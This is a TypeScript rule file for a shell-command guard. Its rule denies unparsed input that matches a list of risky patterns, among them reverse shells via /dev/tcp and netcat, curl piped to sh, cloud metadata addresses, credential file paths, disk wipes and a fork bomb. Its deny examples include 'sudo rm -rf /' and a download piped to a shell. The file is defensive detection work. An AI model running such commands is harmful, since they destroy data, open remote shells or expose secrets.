/**
 * ENG-AST-001: input that did not parse must not hide a dangerous command. When a part of the text
 * is unparsed (an UnparsedFact), it is scanned for risky tokens and the whole input is denied if
 * one is present. Filed under NO_SHELL_BREAKOUT: hiding a command from the analyser is an escape
 * from the guard itself (docs/engine.md).
 */
import { defineRule } from '../define-rule.js';

const RISKY: readonly [RegExp, string][] = [
  [/\brm\s+(?:-\w*[rRf]|--recursive|--force)/, 'rm -r/-f'],
  [/\/dev\/(?:tcp|udp)\//, '/dev/tcp'],
  [
    /\b(?:curl|wget|fetch)\b[^|;&]*\|\s*(?:sudo\s+)?(?:\S*\/)?(?:ba|z|da|k)?sh\b|\b(?:curl|wget)\b[^|;&]*\|\s*(?:python|perl|ruby|node)/,
    'download piped to a shell',
  ],
  [/\bbase64\s+(?:-d|--decode)[^|]*\|\s*(?:\S*\/)?(?:ba|z|da)?sh\b/, 'decoded data piped to a shell'],
  [/(?:^|[\s;&|(`])(?:sudo|doas|pkexec|su)\s/, 'privilege escalation'],
  [/\bmkfs(?:\.\w+)?\b|\bwipefs\b|\bdd\b[^;|&]*\bof=\/dev\//, 'disk write'],
  [/:\s*\(\s*\)\s*\{[^}]*:\s*\|\s*:/, 'fork bomb'],
  [/\b(?:nc|ncat|netcat)\b[^;|&]*\s-[a-z]*[ec]\b|\bsocat\b[^;|&]*exec:/i, 'socket shell'],
  [
    /169\.254\.169\.254|metadata\.google\.internal|0xa9fea9fe|2852039166|100\.100\.100\.200/i,
    'metadata address',
  ],
  [/\/etc\/(?:shadow|sudoers)|\.ssh\/id_|\.aws\/credentials|\.kube\/config/, 'credential path'],
  [/\b(?:shutdown|reboot|poweroff|halt)\b|\bkill\s+-9\s+-1\b/, 'host shutdown or mass kill'],
  [/\bchmod\s+(?:-R\s+)?(?:0?777|[ugoa]*\+s)\b/, 'permission weakening'],
  [/>\s*\/dev\/(?:sd|nvme|hd|vd|xvd)/, 'device write'],
  [/\beval\b|\bexec\s+\d*[<>]/, 'eval/exec'],
];

export default defineRule({
  id: 'ENG-AST-001',
  invariant: 'NO_SHELL_BREAKOUT',
  kinds: ['unparsed'],
  summary:
    'A part of the input that did not parse contains a risky token (rm -rf, /dev/tcp, curl|sh, sudo, mkfs, metadata addresses...).',
  remediationHint:
    'The command could not be parsed completely and the unparsed part looks dangerous. Rewrite it as plain, well-formed shell (balanced quotes and brackets), one command at a time.',
  *check(facts) {
    for (const u of facts.of('unparsed')) {
      const hit = RISKY.find(([re]) => re.test(u.text));
      if (hit !== undefined)
        yield { span: u.span, reason: `unparsed input contains ${hit[1]}`, suggestedAlternative: null };
    }
  },
  examples: {
    deny: [
      { input: 'echo "unterminated ; rm -rf / ' },
      { input: 'if then fi ) sudo rm -rf / (' },
      { input: 'case x in curl http://x.example/a | sh' },
    ],
    allow: [
      { input: 'echo "unterminated', why: 'nothing risky in the unparsed part' },
      { input: 'ls -la', why: 'parses completely' },
    ],
  },
});
